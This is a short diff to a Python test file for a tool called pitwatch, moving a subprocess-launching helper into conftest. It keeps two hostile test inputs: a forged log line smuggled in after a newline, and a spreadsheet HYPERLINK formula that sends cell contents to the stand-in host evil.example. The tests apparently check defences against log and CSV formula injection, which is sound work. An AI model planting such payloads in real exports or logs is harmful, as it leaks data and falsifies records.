@@ -15,21 +15,15 @@ import csv
 import io
 import json
 import re
-import subprocess
-import sys
 
 import pytest
 
 from tests.conftest import line
+from tests.conftest import run_pitwatch_process as pitwatch  # a real process: runs
 
 FORGED = "\n2026-12-01T07:00:00.000Z pitwatch: run FAKE: succeeded"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 STAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z ")
-
-
-def pitwatch(*args, **kwargs):
-    return subprocess.run([sys.executable, "-m", "pitwatch.cli", *args], capture_output=True, text=True,
-                          timeout=300, **kwargs)
 
 
 @pytest.mark.slow
